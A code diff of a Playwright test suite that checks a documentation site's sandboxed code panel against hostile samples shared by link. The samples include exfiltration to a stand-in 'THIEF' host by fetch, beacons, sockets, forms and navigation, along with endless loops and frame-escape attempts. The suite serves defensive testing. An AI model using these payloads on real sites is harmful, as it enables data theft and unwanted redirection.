@@ -1,48 +1,68 @@
+import { existsSync } from "node:fs";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
-import type { Page } from "@playwright/test";
+import path from "node:path";
+import { deflateRawSync } from "node:zlib";
+import type { BrowserContext, Page } from "@playwright/test";
 import { browserArguments } from "@proofsheet/browser/find-browser";
-import { chromium } from "../browsers/projects.ts";
-import { plain } from "./site.ts";
+import { plain, sink } from "./site.ts";
 import { test as base, expect, hydrate } from "./test.ts";
 import { idOf, TryPanel } from "./try-panel.ts";
 
+/** A whole browser: the headless shell of other tests connects to no host ahead of a navigation. */
+const wholeBrowser = ["chromium", "chromium-browser", "google-chrome-stable", "google-chrome"]
+  .flatMap((name) =>
+    (process.env.PATH ?? "").split(path.delimiter).map((at) => path.join(at, name)),
+  )
+  .find((file) => existsSync(file));
+
 /** Whatever the sample does, the console may say that it was stopped; the host's own count decides. */
-const test = base.extend<{ thief: Thief }>({
-  expectedNoise: /^(?:console|uncaught|request to http:\/\/(?:127\.0\.0\.1|localhost|thief))/,
-  // biome-ignore lint/correctness/noEmptyPattern: Playwright wants the pattern
-  thief: async ({}, use) => {
-    const thief = new Thief();
-    await thief.start();
-    await use(thief);
-    await thief.stop();
-  },
+const test = base.extend({
+  expectedNoise:
+    /^(?:console|uncaught|request to (?:http|ws):\/\/(?:127\.0\.0\.1|localhost|thief))/,
+});
+test.skip(!wholeBrowser, "no whole Chromium or Chrome is installed beside the headless shell");
+test.use({
+  launchOptions: { executablePath: wholeBrowser ?? "", args: browserArguments },
 });
 
 /** A host that counts everything that reaches it, connections without a request included. */
 class Thief {
-  #server: Server = createServer((_, response) => response.end());
-  reached = 0;
+  readonly #server = createServer();
+  /** Beside it, because a browser may use a connection again that it has opened ahead. */
+  readonly #control = createServer((_, response) => response.end("<!doctype html><p>Here"));
+  #reached = 0;
 
   async start() {
     this.#server.on("connection", () => {
-      this.reached += 1;
+      this.#reached += 1;
     });
-    await new Promise<void>((resolve) => this.#server.listen(0, "127.0.0.1", resolve));
+    for (const one of [this.#server, this.#control])
+      await new Promise<void>((resolve) => one.listen(0, "127.0.0.1", resolve));
+    return this;
   }
   get origin() {
-    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
+    return originOf(this.#server);
   }
-  stop() {
-    this.#server.closeAllConnections();
-    return new Promise((resolve) => this.#server.close(resolve));
+  /** How often it was reached before a page of the same browser came to the host beside it, which must arrive. */
+  async reachedBefore(context: BrowserContext): Promise<number> {
+    const page = await context.newPage();
+    await page.goto(originOf(this.#control));
+    await expect(page.getByText("Here")).toBeVisible();
+    await page.close();
+    return this.#reached;
+  }
+  async stop() {
+    for (const one of [this.#server, this.#control]) {
+      one.closeAllConnections();
+      await new Promise((resolve) => one.close(resolve));
+    }
   }
 }
 
-// As desktop Chromium is by default, and its headless shell is not: a sandboxed frame has a process.
-test.use({
-  launchOptions: { ...chromium.launchOptions, args: [...browserArguments, "--site-per-process"] },
-});
+function originOf(server: Server): string {
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
 
 interface Attack {
   code: string;
@@ -53,19 +73,19 @@ interface Attack {
 /** What a stranger might put into a link, by what it tries; THIEF is a host of his. */
 const attacks: Record<string, Record<string, Attack>> = {
   "what never ends": {
-    "an endless loop": { code: "while (true);", says: /loop/i },
+    "an endless loop": { code: "while (true);", says: /at line 1: A loop/ },
     "an endless loop that catches": {
       code: "for (;;) { try { for (;;); } catch {} }",
-      says: /loop/i,
+      says: /A loop/,
     },
     "an endless loop of awaits": { code: "while (true) await null;", says: /loop/i },
     "endless microtasks": {
       code: "const again = () => Promise.resolve().then(again); again();",
-      says: /stopped answering/i,
+      says: /never ends, or needs more memory/i,
     },
     "an expression that never ends": {
       code: 'const slow = new RegExp("^(a+)+$"); slow.test("a".repeat(60) + "b");',
-      says: /stopped answering/i,
+      says: /never ends, or needs more memory/i,
     },
   },
   "what floods": {
@@ -86,21 +106,74 @@ const attacks: Record<string, Record<string, Attack>> = {
       says: /<img src=/,
     },
   },
-  "what leaves": {
-    "leaving by location": { code: 'window.location = "THIEF/gone";' },
-    "leaving by href": { code: 'location.href = "THIEF/gone";', says: /was stopped/ },
-    "leaving at the top": {
-      code: 'try { top.location = "THIEF/gone"; } catch (error) { console.log("no", error.name); }',
+  "what leaves by an address": {
+    "the window's location": { code: 'window.location = "THIEF/x";', says: /was stopped/ },
+    "a bare location": { code: 'location = "THIEF/x";', says: /was stopped/ },
+    href: { code: 'location.href = "THIEF/x";', says: /was stopped/ },
+    assign: { code: 'document.location.assign("THIEF/x");', says: /was stopped/ },
+    "a name that is computed": { code: 'window["loc" + "ation"] = "THIEF/x";', says: /Not run/ },
+    "a window of another name": {
+      code: 'const w = window; w.location = "THIEF/x";',
+      says: /Not run/,
     },
-    "leaving by a link": {
+    "a location of another name": {
+      code: 'const { location: l } = window; l.href = "THIEF/x";',
+      says: /Not run: "window"/,
+    },
+    reflection: { code: 'Reflect.get(window, "location").href = "THIEF/x";', says: /Not run/ },
+    "an element's document": {
+      code: 'document.body.ownerDocument.location = "THIEF/x";',
+      says: /Not run: "location"/,
+    },
+    "the document's window": {
+      code: 'document.defaultView.location = "THIEF/x";',
+      says: /Not run/,
+    },
+    "the top": { code: 'try { top.location = "THIEF/x"; } catch {}', says: /Not run/ },
+    navigation: { code: 'navigation.navigate("THIEF/x");', says: /was stopped/ },
+  },
+  "what leaves by an element": {
+    "a link beside the page": {
+      code: 'const a = document.createElement("a"); a.href = "THIEF/x"; a.click();',
+    },
+    "a link whose click nobody hears": {
+      code: 'const a = document.createElement("a"); a.href = "THIEF/x"; document.body.append(a); addEventListener("click", (event) => event.stopImmediatePropagation(), true); a.addEventListener("click", (event) => event.stopPropagation()); a.click();',
+    },
+    "a link by an event": {
+      code: 'const a = document.createElement("a"); a.href = "THIEF/x"; a.dispatchEvent(new MouseEvent("click"));',
+    },
+    "a link in a closed shadow": {
+      code: 'const r = document.body.appendChild(document.createElement("p")).attachShadow({ mode: "closed" }); r.innerHTML = \'<a href="THIEF/x">x</a>\'; const a = r.firstChild; a.addEventListener("click", (event) => event.stopPropagation()); a.click();',
+    },
+    "a link at the top": {
       code: 'const a = document.createElement("a"); a.href = "THIEF"; a.target = "_top"; document.body.append(a); a.click();',
+    },
+    "a download": {
+      code: 'const a = document.createElement("a"); a.href = "THIEF/x"; a.download = "y"; document.body.append(a); a.click();',
+      says: /A download was stopped: y/,
     },
     "a form that is sent": {
       code: 'document.body.innerHTML = "<form action=THIEF target=_top><input name=a value=b></form>"; document.forms[0].submit();',
     },
+    "a form whose sending nobody hears": {
+      code: 'document.body.innerHTML = "<form method=post><button formaction=THIEF/x formtarget=_self>x</button></form>"; document.forms[0].addEventListener("submit", (event) => event.stopImmediatePropagation()); document.querySelector("button").click();',
+    },
     "a window": { code: 'open("THIEF"); window.open("THIEF", "_blank");', says: /was not opened/ },
-    "a refresh and a base": {
-      code: 'document.head.innerHTML = \'<base href="THIEF"><meta http-equiv="refresh" content="0;url=THIEF">\';',
+    "a refresh in markup": {
+      code: 'document.head.innerHTML = \'<meta http-equiv="refresh" content="0;url=THIEF">\';',
+      says: /Not run/,
+    },
+    "a refresh by script": {
+      code: 'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=THIEF"; document.head.append(m);',
+      says: /Not run: "meta"/,
+    },
+    "a frame": {
+      code: 'const f = document.createElement("iframe"); f.src = "THIEF/x"; document.body.append(f);',
+      says: /Not run: "iframe"/,
+    },
+    "a frame in a frame": {
+      code: "document.body.innerHTML = \"<iframe credentialless srcdoc='<iframe src=THIEF/x></iframe>'></iframe>\";",
+      says: /Not run/,
     },
   },
   "what asks a stranger's host": {
@@ -108,15 +181,15 @@ const attacks: Record<string, Record<string, Attack>> = {
       code: 'fetch("THIEF/?" + document.title).catch((error) => console.log(error.message));',
       says: /Failed to fetch/,
     },
-    "a request by a fresh window": {
-      code: 'const frame = document.createElement("iframe"); document.body.append(frame); frame.contentWindow.fetch("THIEF").catch(() => console.log("refused"));',
-      says: /refused|SecurityError/,
-    },
     "pictures, styles, fonts and scripts": {
-      code: 'document.body.innerHTML = \'<img src="THIEF/1"><link rel=stylesheet href="THIEF/2"><style>@font-face{font-family:x;src:url(THIEF/3)}b{font-family:x;background:url(THIEF/4)}</style><b>b</b><video src="THIEF/5"></video><object data="THIEF/6"></object><iframe src="THIEF/7"></iframe>\'; const s = document.createElement("script"); s.src = "THIEF/8"; document.head.append(s); import("THIEF/9").catch(() => {});',
+      code: 'document.body.innerHTML = \'<img src="THIEF/1"><link rel=stylesheet href="THIEF/2"><style>@font-face{font-family:x;src:url(THIEF/3)}b{font-family:x;background:url(THIEF/4)}</style><b>b</b><video src="THIEF/5"></video>\'; const s = document.createElement("script"); s.src = "THIEF/8"; document.head.append(s); import("THIEF/9").catch(() => {});',
+      says: /A picture \(http.*\) was stopped/,
     },
     "sockets, beacons and event streams": {
       code: 'navigator.sendBeacon("THIEF/1"); for (const make of [() => new WebSocket("THIEF".replace("http", "ws")), () => new EventSource("THIEF"), () => new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] })]) try { make(); } catch (error) { console.log("no", error.name); }',
+    },
+    "hints to the browser": {
+      code: 'for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "manifest", "icon"]) document.head.append(Object.assign(document.createElement("link"), { rel, as: "image", href: "THIEF/x" }));',
     },
   },
   "what reads the site": {
@@ -124,106 +197,164 @@ const attacks: Record<string, Record<string, Attack>> = {
       code: 'localStorage.slash = "stolen"; document.cookie = "a=b"; try { indexedDB.open("x"); } catch {} parent.postMessage("stolen", "*"); console.log(localStorage.slash);',
       says: /nothing is kept/,
     },
-    "the page around it": {
-      code: 'for (const read of [() => parent.document.title, () => top.document.title, () => parent.parent.localStorage.length, () => frameElement.id]) try { console.log("READ", read()); } catch (error) { console.log("no", error.name); }',
-      says: /no SecurityError/,
-    },
     "messages in the frame's own name": {
-      code: 'parent.postMessage({ kind: "print", level: "log", text: "forged" }, "*"); top.postMessage({ kind: "key", key: "escape" }, "*");',
+      code: 'parent.postMessage({ kind: "print", level: "log", text: "forged" }, "*"); top.postMessage({ kind: "key", key: "escape" }, "*"); MessagePort.prototype.postMessage = () => {}; console.log("still heard");',
+      says: /still heard/,
     },
   },
 };
 
-for (const [kind, group] of Object.entries(attacks))
-  test(`attacks from a link: ${kind}`, async ({ page, thief, context }) => {
-    const pages: string[] = [];
-    page.on("framenavigated", (frame) => pages.push(frame.url()));
-    page.on("dialog", (dialog) => {
-      pages.push(`dialog ${dialog.message()}`);
-      return dialog.dismiss();
-    });
-    await page.goto(plain.href);
-    await hydrate(page);
-    const stored = () => page.evaluate(() => [Object.keys(localStorage), document.cookie]);
-    const before = await stored();
-    const address = page.url();
-    const panel = new TryPanel(page);
-    for (const [name, { code, says }] of Object.entries(group))
-      await test.step(name, async () => {
-        const link = await linkTo(page, address, code.replaceAll("THIEF", thief.origin));
-        await page.goto(link);
-        await expect(panel.warning).toContainText("came with a link");
-        await expect(panel.editor).toBeVisible();
-        await expect(panel.log).toBeHidden();
+/** What a stranger might put into a page's markup. */
+const pages: Record<string, Attack> = {
+  "a refresh": { code: '<META HTTP-EQUIV="ReFresh" CONTENT="0;URL=THIEF/x"><p>Hi</p>' },
+  "frames, objects and a base": {
+    code: '<base href="THIEF"><iframe src="THIEF/1"></iframe><iframe srcdoc="<meta http-equiv=refresh content=0;url=THIEF/2>"></iframe><object data="THIEF/3"></object><embed src="THIEF/4">',
+    says: /The page THIEF\/1 was left out/,
+  },
+  "a frame in a template": {
+    code: '<template><iframe src="THIEF/x"></iframe></template><p>Hi</p><script>document.querySelector("p").append(document.querySelector("template").content.cloneNode(true));</script>',
+  },
+  hints: {
+    code: '<link rel=preconnect href="THIEF"><link rel=dns-prefetch href="THIEF"><link rel=prefetch href="THIEF/x">',
+  },
+  "a handler": {
+    code: "<body onload=\"const w = window; w.location = 'THIEF/x'\">",
+    says: /Not run: "window"/,
+  },
+  "the window as this": {
+    code: "<p>Hi</p><script>\nthis['loc' + 'ation'] = 'THIEF/x';</script>",
+    says: /at line 2: Not run: "this"/,
+  },
+  "a script that is no module": {
+    code: "<script>var a = 010; (function () { return this; })().location = 'THIEF/x';</script>",
+    says: /Not run/,
+  },
+};
 
-        await panel.button("Run").click();
-        if (says) await expect(panel.log).toContainText(says, { timeout: 30_000 });
-        else await expect(panel.status).toHaveText(/Done|Stopped/);
-        // What it sent would need a moment to arrive.
-        await page.waitForTimeout(200);
-        expect(await panel.log.allTextContents()).not.toContain("READ");
-        expect(page.url()).toBe(link);
-        await page.keyboard.press("Escape");
-        await expect(panel.dialog).toBeHidden();
-        await expect(page.locator("h1")).toBeVisible();
-      });
-    // By now whatever was on its way has arrived.
-    await page.goto(plain.href);
-    expect(thief.reached).toBe(0);
-    expect(context.pages()).toHaveLength(1);
-    expect(pages.filter((one) => one.startsWith(thief.origin) || one.startsWith("dialog"))).toEqual(
-      [],
-    );
-    expect(await stored()).toEqual(before);
+for (const [kind, group] of Object.entries(attacks))
+  test(`attacks from a link: ${kind}`, async ({ page, context }) => {
+    await attack(page, context, group, {
+      route: plain.href,
+      card: idOf("Change a value"),
+      file: "sample.js",
+    });
   });
 
-test("a shared sample does nothing before Run is pressed", async ({ page, thief }) => {
-  await page.goto(plain.href);
+test("attacks from a link: what is in markup", async ({ page, context }) => {
+  const card = idOf("A fragment of HTML", sink);
+  await attack(page, context, pages, { route: sink.href, card, file: "index.html" });
+});
+
+/** The card whose code a link replaces. */
+interface Target {
+  route: string;
+  card: string;
+  file: string;
+}
+
+/** Opens each attack by a link, runs it, and asserts that it reached, opened and changed nothing. */
+async function attack(
+  page: Page,
+  context: BrowserContext,
+  group: Record<string, Attack>,
+  target: Target,
+) {
+  const opened: string[] = [];
+  page.on("framenavigated", (frame) => opened.push(frame.url()));
+  page.on("dialog", (dialog) => {
+    opened.push(`dialog ${dialog.message()}`);
+    return dialog.dismiss();
+  });
+  await page.goto(target.route);
+  await hydrate(page);
+  const stored = () => page.evaluate(() => [Object.keys(localStorage), document.cookie]);
+  const before = await stored();
+  const panel = new TryPanel(page);
+  for (const [name, { code, says }] of Object.entries(group))
+    await test.step(name, async () => {
+      // One of its own: a connection that is open already would be used again, and not be seen.
+      const thief = await new Thief().start();
+      const link = linkTo(target, code.replaceAll("THIEF", thief.origin));
+      await page.goto(link);
+      await expect(panel.warning).toContainText("came with a link");
+      await expect(panel.editor).toBeVisible();
+      await panel.button("Run").click();
+      await expect(panel.status).toHaveText(/^(?:Done|Stopped)/, { timeout: 30_000 });
+      const words = new RegExp((says?.source ?? "").replaceAll("THIEF", thief.origin), says?.flags);
+      await expect(panel.dialog).toContainText(words, { timeout: 30_000 });
+      expect(await thief.reachedBefore(context)).toBe(0);
+      expect(new URL(page.url()).hash).toBe(new URL(link, page.url()).hash);
+      expect(opened.filter((one) => one.startsWith(thief.origin))).toEqual([]);
+      await panel.close();
+      await expect(page.locator("h1")).toBeVisible();
+      await thief.stop();
+    });
+  expect(context.pages()).toHaveLength(1);
+  expect(opened.filter((one) => one.startsWith("dialog"))).toEqual([]);
+  expect(await stored()).toEqual(before);
+}
+
+test("each way to read the page around a sample is rejected", async ({ page }) => {
+  const panel = await runShared(
+    page,
+    `const ways = {
+  title: () => parent.document.title,
+  topTitle: () => top.document.title,
+  storage: () => parent.parent.localStorage.length,
+  frame: () => frameElement.id,
+};
+for (const [name, read] of Object.entries(ways))
+  try { read(); console.log(name, "was read"); } catch (error) { console.log(name, error.name); }`,
+  );
+  await expect(panel.log.locator("> *")).toHaveText([
+    "title SecurityError",
+    "topTitle SecurityError",
+    "storage SecurityError",
+    "frame TypeError",
+  ]);
+});
+
+test("a known limit: a frame whose name is computed connects to a host before the policy stops it", async ({
+  page,
+  context,
+}) => {
+  // It also shows that this browser connects ahead, so that the attacks above are worth their name.
+  const thief = await new Thief().start();
+  await runShared(
+    page,
+    `const frame = document.createElement("ifr" + "ame"); frame.src = "${thief.origin}/x"; document.body.append(frame);`,
+  );
+  expect(await thief.reachedBefore(context)).toBe(1);
+  await thief.stop();
+});
+
+test("a shared sample does nothing before Run is pressed", async ({ page, context }) => {
+  const thief = await new Thief().start();
   const code = attacks["what asks a stranger's host"]?.["a request"]?.code ?? "";
-  const link = await linkTo(page, page.url(), code.replaceAll("THIEF", thief.origin));
-  await page.goto("about:blank");
-  await page.goto(link);
+  await page.goto(linkTo(valueCard, code.replaceAll("THIEF", thief.origin)));
   const panel = new TryPanel(page);
   await expect(panel.editor).toBeVisible();
-  // As long as its run takes once it is asked for.
-  await page.waitForTimeout(1000);
+  expect(await thief.reachedBefore(context)).toBe(0);
+  expect(page.frames()).toHaveLength(1);
   await expect(panel.log).toBeHidden();
-  expect(thief.reached).toBe(0);
   await panel.button("Run").click();
   await expect(panel.log).toContainText("Failed to fetch");
+  await thief.stop();
 });
 
-test("a sample cannot speak for the page to the frame of the next run", async ({ page }) => {
-  await page.goto(plain.href);
-  await hydrate(page);
-  const script = '"window.__start = () => {}"';
-  const code = `const script = new Blob([${script}], { type: "text/javascript" });
-    setInterval(() => {
-      for (let n = 0; n < parent.length; n++)
-        if (parent[n] !== window) parent[n].postMessage(script, "*", [new MessageChannel().port1]);
-    }, 1);
-    1 + 1; // → 2`;
-  await page.goto(await linkTo(page, page.url(), code));
+const valueCard: Target = { route: plain.href, card: idOf("Change a value"), file: "sample.js" };
+
+async function runShared(page: Page, code: string): Promise<TryPanel> {
+  await page.goto(linkTo(valueCard, code));
   const panel = new TryPanel(page);
+  await expect(panel.editor).toBeVisible();
   await panel.button("Run").click();
-  await expect(panel.checks).toHaveText(["Line 6 holds: 2"]);
-  // The frame of the next run is made a moment after this one is done.
-  await expect.poll(() => page.frames().length).toBe(4);
-  await panel.button("Run").click();
-  await expect(panel.checks).toHaveText(["Line 6 holds: 2"]);
-  await expect(panel.status).toContainText("Done");
-});
+  await expect(panel.status).toHaveText(/^Done/);
+  return panel;
+}
 
-/** Makes a link as the panel does, by the page's own browser. */
-async function linkTo(page: Page, address: string, code: string): Promise<string> {
-  const fragment = await page.evaluate(
-    async (text) => {
-      const stream = new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw"));
-      const bytes = new Uint8Array(await new Response(stream).arrayBuffer());
-      const letters = Array.from(bytes, (byte) => String.fromCharCode(byte)).join("");
-      return btoa(letters).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
-    },
-    JSON.stringify([1, { "sample.js": code }]),
-  );
-  return `${address}#${idOf("Change a value")}~try=${fragment}`;
+/** Makes a link as the panel does. */
+function linkTo({ route, card, file }: Target, code: string): string {
+  const packed = deflateRawSync(JSON.stringify([1, { [file]: code }])).toString("base64url");
+  return `${route}#${card}~try=${packed}`;
 }
